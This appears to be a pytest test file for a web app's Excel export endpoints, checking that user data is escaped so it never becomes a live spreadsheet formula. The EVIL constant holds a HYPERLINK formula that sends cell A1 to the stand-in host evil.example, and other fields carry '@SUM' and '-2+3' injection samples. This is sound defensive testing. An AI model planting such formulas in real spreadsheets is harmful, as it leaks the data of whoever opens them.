"""No export writes a formula from data: text that starts like one is text (issue 16, finding 4)."""
import io

from openpyxl import load_workbook

from .factories import AssignmentFactory, ComplaintFactory, CompoundFactory, HandoverFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_no_export_holds_a_formula_from_data(client, login_as):
    compound = CompoundFactory(name=EVIL, management_mode="fallback")
    AssignmentFactory(compound=compound, status="active")
    HandoverFactory(compound=compound)
    ComplaintFactory(compound=compound, source="hotline", hotline_ticket_no="@SUM(1+1)", status="resolved",
                     resolution_note="-2+3")
    login_as("admin")
    for url in ("/compounds/export.xlsx", "/assignments/export.xlsx", "/handovers/export.xlsx",
                "/oversight/report.xlsx", "/complaints/hotline/replies.xlsx", "/renovation/ledger.xlsx",
                "/audit/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.data)
        assert cells, url
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))], url
    replies = [c.value for c in _cells(client.get("/complaints/hotline/replies.xlsx").data)]
    assert "'@SUM(1+1)" in replies and "'-2+3" in replies and "'" + EVIL in replies
